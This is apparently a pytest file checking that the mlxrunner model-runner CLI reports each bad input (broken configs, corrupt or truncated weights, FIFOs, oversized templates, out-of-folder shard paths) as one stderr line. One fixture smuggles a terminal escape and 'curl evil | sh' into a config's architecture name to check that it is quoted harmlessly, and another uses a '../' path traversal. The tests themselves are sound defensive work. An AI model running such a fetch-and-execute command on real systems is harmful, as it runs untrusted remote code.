"""Every bad input is one line on stderr naming the problem, and a non-zero exit."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest


def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ)
    env.pop("MLXRUNNER_LOAD_PLUGINS", None)
    return subprocess.run([sys.executable, "-m", "mlxrunner.cli", *args], capture_output=True,
                          text=True, cwd=cwd, env=env, timeout=300)


def one_line_error(result: subprocess.CompletedProcess, *needles: str) -> str:
    assert result.returncode != 0, result.stdout
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    errors = [line for line in lines if line.startswith("mlxrunner: error:")]
    assert len(errors) == 1 and "Traceback" not in result.stderr, result.stderr
    for needle in needles:
        assert needle in errors[0], errors[0]
    return errors[0]


def test_missing_folder(tmp_path):
    one_line_error(cli("show", "./no-such-model", cwd=tmp_path), "no-such-model", "not found")


def test_folder_without_config(tmp_path):
    (tmp_path / "m").mkdir()
    one_line_error(cli("show", "./m", cwd=tmp_path), "config.json")


def test_config_without_architecture(tmp_path):
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "config.json").write_text(json.dumps({"hidden_size": 8}))
    one_line_error(cli("show", "./m", cwd=tmp_path), "names no architecture")


def test_config_not_json(tmp_path):
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "config.json").write_text("{not json")
    one_line_error(cli("show", "./m", cwd=tmp_path), "config.json", "not valid JSON")


def test_unknown_architecture_lists_installed_and_names_no_package(tmp_path,
                                                                   example_model_folder):
    """The folder's own text is shown quoted and cut, never as a package to install."""
    config = json.loads((example_model_folder / "config.json").read_text())
    config.update(architectures=["Mystery\x1b[2J; curl evil | sh" + "x" * 200],
                  model_type="mystery")
    (example_model_folder / "config.json").write_text(json.dumps(config))
    line = one_line_error(cli("show", str(example_model_folder), cwd=tmp_path),
                          "'Mystery\\x1b[2J; curl evil | sh", "ExampleLlamaForCausalLM",
                          "no known plugin provides it", "mlxrunner architectures")
    assert "pip install" not in line and "\x1b" not in line.replace("\\x1b", "")
    assert "x" * 61 not in line


def _rewrite_weights(folder: Path, edit) -> None:
    import mlx.core as mx

    weights = dict(mx.load(str(folder / "model.safetensors")))
    edit(weights)
    mx.save_safetensors(str(folder / "model.safetensors"), weights)


def test_missing_tensor(tmp_path, example_model_folder):
    victim = {}

    def drop(weights):
        name = sorted(k for k in weights if "layers.1" in k)[0]
        victim["name"] = name
        del weights[name]

    _rewrite_weights(example_model_folder, drop)
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path), "missing tensor")


def test_tensor_of_wrong_shape(tmp_path, example_model_folder):
    import mlx.core as mx

    def reshape(weights):
        name = sorted(k for k in weights if k.endswith("weight") and "layers.0" in k)[0]
        weights[name] = mx.zeros((3, 5))

    _rewrite_weights(example_model_folder, reshape)
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path), "shape", "(3, 5)")


def test_truncated_safetensors(tmp_path, example_model_folder):
    path = example_model_folder / "model.safetensors"
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path),
                   "model.safetensors", "truncated")


def test_corrupt_safetensors_header(tmp_path, example_model_folder):
    (example_model_folder / "model.safetensors").write_bytes(b"\x10\x00\x00\x00\x00\x00\x00\x00"
                                                             b"{{{{garbage}}}}!")
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path), "corrupt")


def test_config_value_out_of_bounds(tmp_path, example_model_folder):
    config = json.loads((example_model_folder / "config.json").read_text())
    config.update(vocab_size=10**12)
    (example_model_folder / "config.json").write_text(json.dumps(config))
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path),
                   "config.json", "vocab_size must be an integer from 1 to 16777216")


def test_weight_index_naming_a_file_outside_the_folder(tmp_path, example_model_folder):
    (example_model_folder / "model.safetensors").rename(tmp_path / "outside.safetensors")
    index = {"weight_map": {"a": "../outside.safetensors"}}
    (example_model_folder / "model.safetensors.index.json").write_text(json.dumps(index))
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path),
                   "'../outside.safetensors'", "outside the model folder")


def test_chat_template_past_its_size_limit(tmp_path):
    (tmp_path / "t.jinja").write_text("{{ 'x' * 10**10 }}")
    (tmp_path / "c.json").write_text(json.dumps([{"role": "user", "content": "hi"}]))
    one_line_error(cli("render", "--renderer", "jinja", "--template", "t.jinja", "c.json",
                       cwd=tmp_path), "the chat template went past its size limit")


def test_shard_named_in_index_but_absent(tmp_path, example_model_folder):
    (example_model_folder / "model.safetensors").rename(
        example_model_folder / "model-00001-of-00002.safetensors")
    index = {"metadata": {}, "weight_map": {"a": "model-00001-of-00002.safetensors",
                                            "b": "model-00002-of-00002.safetensors"}}
    (example_model_folder / "model.safetensors.index.json").write_text(json.dumps(index))
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path),
                   "model-00002-of-00002.safetensors", "missing")


def test_unknown_renderer_lists_available(tmp_path, example_model_folder):
    one_line_error(cli("show", str(example_model_folder), "--renderer", "nope", cwd=tmp_path),
                   "'nope'", "jinja")
    conv = tmp_path / "c.json"
    conv.write_text(json.dumps([{"role": "user", "content": "hi"}]))
    one_line_error(cli("render", "--renderer", "nope", str(conv), cwd=tmp_path), "'nope'", "jinja")


def test_unknown_parser_lists_available(tmp_path, example_model_folder):
    result = cli("run", str(example_model_folder), "hi", "--parser", "nope", "--max-tokens", "2",
                 cwd=tmp_path)
    one_line_error(result, "unknown parser 'nope'")


def test_malformed_modelfile_line(tmp_path, example_model_folder):
    modelfile = example_model_folder / "Modelfile"
    modelfile.write_text(f"FROM {example_model_folder}\nPARAMETER temperature\n")
    one_line_error(cli("show", str(modelfile), cwd=tmp_path), "Modelfile:2")
    modelfile.write_text("FROM .\nFROBNICATE yes\n")
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path), "Modelfile:2")


def test_debug_shows_the_traceback(tmp_path):
    result = cli("--debug", "show", "./no-such-model", cwd=tmp_path)
    assert result.returncode != 0 and "Traceback" in result.stderr


def test_missing_draft_folder(tmp_path, example_model_folder):
    one_line_error(cli("run", str(example_model_folder), "hi", "--draft", "./no-draft",
                       cwd=tmp_path), "no-draft", "draft folder not found")


def test_unknown_attention_mode(tmp_path):
    env = dict(os.environ, MLXRUNNER_ATTENTION="fast")
    env.pop("MLXRUNNER_LOAD_PLUGINS", None)
    result = subprocess.run([sys.executable, "-m", "mlxrunner.cli", "plugins"], capture_output=True,
                            text=True, cwd=tmp_path, env=env, timeout=300)
    one_line_error(result, "MLXRUNNER_ATTENTION='fast'", "kernel, folded, mlx")


def test_counts_out_of_range_are_refused_before_loading(tmp_path):
    """A run or bench count that cannot mean anything is refused by the argument parser (no
    model is loaded: the model argument does not even exist here)."""
    for args, needle in ((("bench", "./none", "--repeats", "0"), "--repeats"),
                         (("bench", "./none", "--warmup", "-1"), "--warmup"),
                         (("bench", "./none", "--max-tokens", "0"), "--max-tokens"),
                         (("bench", "./none", "--prompt-tokens", "x"), "--prompt-tokens"),
                         (("run", "./none", "hi", "--max-tokens", "-3"), "--max-tokens")):
        one_line_error(cli(*args, cwd=tmp_path), needle, "whole number")


def _command_names() -> list[str]:
    """Every command the CLI has: the built-in ones and those installed plugins register."""
    from mlxrunner import host
    from mlxrunner.cli import build_parser

    _, registry = build_parser()
    host.host().call_commands_hook(registry)
    return sorted(registry.handlers)


def test_every_command_has_a_working_help(capsys):
    """``--help`` of every command, built-in or from a plugin, prints its usage and exits 0
    (an argparse help string with a bare ``%`` made ``train-draft --help`` crash)."""
    from mlxrunner.cli import main

    names = _command_names()
    assert {"run", "show", "serve", "plugins"} <= set(names)
    failed = {}
    for args in ([], *([name] for name in names)):
        code = None
        try:
            code = main([*args, "--help"])
        except SystemExit as exc:
            code = exc.code
        out, err = capsys.readouterr()
        if code not in (0, None) or "usage:" not in out:
            failed[" ".join(args) or "(none)"] = (code, err.strip())
    assert failed == {}


def test_a_prompt_beyond_the_context_is_one_line_before_any_prefill(tmp_path: Path) -> None:
    """The demo's context is 4,096 positions; a prompt of about 1.5 times that is refused
    with its length and the context, without reading it into the model."""
    result = subprocess.run([sys.executable, "-m", "mlxrunner.cli", "run", "demo-qwen3.5", "-",
                             "--max-tokens", "2"], input="x " * 6200, capture_output=True,
                            text=True, cwd=tmp_path, timeout=120)
    err = [line for line in result.stderr.splitlines() if line.strip()]
    assert result.returncode == 1 and result.stdout == ""
    assert len(err) == 1 and "demo-qwen3.5's context is 4096 positions" in err[0], err


def test_render_for_a_model_uses_its_renderer_or_says_it_has_none(tmp_path,
                                                                    example_model_folder):
    conv = tmp_path / "c.json"
    conv.write_text(json.dumps([{"role": "user", "content": "hi"}]))
    one_line_error(cli("render", "--model", str(example_model_folder), str(conv), cwd=tmp_path),
                   "has no chat format", "--renderer")
    (example_model_folder / "chat_template.jinja").write_text(
        "{% for m in messages %}<{{ m.role }}>{{ m.content }}{% endfor %}<assistant>")
    shown = cli("render", "--model", str(example_model_folder), str(conv), cwd=tmp_path)
    assert shown.returncode == 0 and shown.stdout == "<user>hi<assistant>"
    (example_model_folder / "Modelfile").write_text("FROM .\nRENDERER qwen3.5\n")
    shown = cli("render", "--model", str(example_model_folder), str(conv), cwd=tmp_path)
    assert shown.returncode == 0 and "<|im_start|>user\nhi<|im_end|>" in shown.stdout
    one_line_error(cli("render", "--renderer", "jinja", str(conv), cwd=tmp_path),
                   "--model MODEL", "--template FILE")
    one_line_error(cli("render", str(conv), cwd=tmp_path), "--renderer NAME or --model MODEL")


def test_a_draft_by_store_name_and_an_unknown_draft_name(tmp_path, example_model_folder,
                                                          monkeypatch):
    monkeypatch.setenv("MLXRUNNER_MODELS", str(tmp_path / "store"))
    one_line_error(cli("run", str(example_model_folder), "hi", "--draft", "nodraft",
                       cwd=tmp_path), "draft: unknown model 'nodraft'")
    one_line_error(cli("run", str(example_model_folder), "hi", "--draft", "org/draft-repo",
                       cwd=tmp_path), "mlxrunner pull org/draft-repo")
    assert cli("cp", str(example_model_folder), "mine", cwd=tmp_path).returncode == 0
    # a stored model by name: found (an example model is no draft: refused as one)
    result = cli("run", str(example_model_folder), "hi", "--draft", "mine", cwd=tmp_path)
    assert "unknown model" not in result.stderr and "not found" not in result.stderr


@pytest.mark.parametrize("kind", ["fifo", "device link"])
def test_a_config_that_is_no_regular_file_is_refused_at_once(tmp_path, example_model_folder,
                                                            kind):
    """A FIFO named config.json would block the reader for good; a link to /dev/zero would
    be read until memory runs out: each is one line, at once."""
    config = example_model_folder / "config.json"
    config.unlink()
    if kind == "fifo":
        os.mkfifo(config)
    else:
        if not os.path.exists("/dev/zero"):
            pytest.skip("no /dev/zero here")
        config.symlink_to("/dev/zero")
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path), "config.json",
                   "not a regular file")
    (example_model_folder / "Modelfile").unlink(missing_ok=True)
    os.mkfifo(example_model_folder / "Modelfile")
    one_line_error(cli("show", str(example_model_folder / "Modelfile"), cwd=tmp_path),
                   "Modelfile")


def test_a_folders_modelfile_that_is_no_regular_file_is_refused(tmp_path, example_model_folder):
    """A FIFO named Modelfile in the folder a user names is one line, not silently skipped
    (its settings would be lost without a word)."""
    (example_model_folder / "Modelfile").unlink(missing_ok=True)
    os.mkfifo(example_model_folder / "Modelfile")
    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path), "Modelfile",
                   "not a regular file")


def test_an_oversized_chat_template_is_refused_before_compiling(tmp_path):
    (tmp_path / "t.jinja").write_text("{{ 'x' }}" * 200_000)  # 1.8 MB
    (tmp_path / "c.json").write_text(json.dumps([{"role": "user", "content": "hi"}]))
    one_line_error(cli("render", "--renderer", "jinja", "--template", "t.jinja", "c.json",
                       cwd=tmp_path), "past the limit")


@pytest.mark.parametrize("case", ["text-only", "missing", "corrupt"])
def test_an_image_the_model_cannot_take_is_one_line(tmp_path, case):
    pytest.importorskip("PIL", reason="Pillow (the vision extra) is not installed")
    from mlxrunner_test_support import write_model_folder

    write_model_folder(tmp_path / "m")
    image = tmp_path / "a.png"
    if case == "text-only":
        import numpy as np
        from PIL import Image

        Image.fromarray(np.zeros((8, 8, 3), np.uint8)).save(image)
    elif case == "corrupt":
        image.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 40)
    result = cli("run", "./m", "hi", "--image", str(image), "-n", "2", cwd=tmp_path)
    one_line_error(result, {"text-only": "takes no image input", "missing": "a.png",
                            "corrupt": "image"}[case])


@pytest.mark.parametrize("case", ["text-only", "missing"])
def test_audio_the_model_cannot_take_is_one_line(tmp_path, case):
    from mlxrunner_test_support import wav_bytes, write_model_folder

    write_model_folder(tmp_path / "m")
    clip = tmp_path / "a.wav"
    if case == "text-only":
        clip.write_bytes(wav_bytes(1))
    result = cli("run", "./m", "hi", "--audio", str(clip), "-n", "2", cwd=tmp_path)
    one_line_error(result, {"text-only": "takes no audio input", "missing": "a.wav"}[case])


def test_an_error_mid_reply_starts_its_own_line(monkeypatch, capsys):
    """A failure after part of the reply streamed (here the output's fourth write raises):
    the reply's line is ended on stdout before the error's line on stderr (at a terminal
    both share one screen)."""
    import io

    from mlxrunner.cli import main

    class FailingOnce(io.StringIO):
        writes = 0

        def write(self, text: str) -> int:
            self.writes += 1
            if self.writes == 4:
                raise RuntimeError("the device went away")
            return super().write(text)

    out = FailingOnce()
    monkeypatch.setattr(sys, "stdout", out)
    code = main(["run", "demo-qwen3.5", "hi", "--max-tokens", "8", "--temperature", "0"])
    err = capsys.readouterr().err
    assert code == 1
    assert out.getvalue().strip() and out.getvalue().endswith("\n"), repr(out.getvalue())
    assert err.strip().splitlines()[-1].startswith(
        "mlxrunner: internal error: RuntimeError: the device went away"), err


def test_a_reply_cut_by_a_closed_pipe_leaves_no_open_line_behind(monkeypatch, tmp_path):
    """A reader that closed the pipe mid-reply ends the run quietly (exit 0), and the next
    run in the process starts clean: its error adds nothing to stdout."""
    import io

    from mlxrunner.cli import main

    class ClosedAfterThree(io.StringIO):
        writes = 0

        def write(self, text: str) -> int:
            self.writes += 1
            if self.writes >= 4:
                raise BrokenPipeError(32, "Broken pipe")
            return super().write(text)

    monkeypatch.setattr(sys, "stdout", ClosedAfterThree())
    assert main(["run", "demo-qwen3.5", "hi", "--max-tokens", "8", "--temperature", "0"]) == 0
    after = io.StringIO()
    monkeypatch.setattr(sys, "stdout", after)
    assert main(["show", str(tmp_path / "no-such-model")]) == 1
    assert after.getvalue() == ""


def test_a_tokenizer_that_is_not_the_models_is_one_line(tmp_path):
    """A folder whose tokenizer makes ids past the model's vocabulary (300 ids against 64
    embedding rows): one error line naming the token and the vocabulary, not an internal
    error, and nothing decoded from rows that do not exist."""
    pytest.importorskip("mlxrunner_example_architecture",
                        reason="the example-architecture plugin is not installed")
    from mlxrunner_test_support import EXAMPLE_CONFIG, write_model_folder

    folder = write_model_folder(tmp_path / "m", dict(EXAMPLE_CONFIG, vocab_size=64))
    result = cli("run", str(folder), "hello world, a sentence", "--max-tokens", "3",
                 cwd=tmp_path)
    one_line_error(result, "outside the vocabulary (0..63)", "tokenizer")
    assert result.stdout.strip() == ""
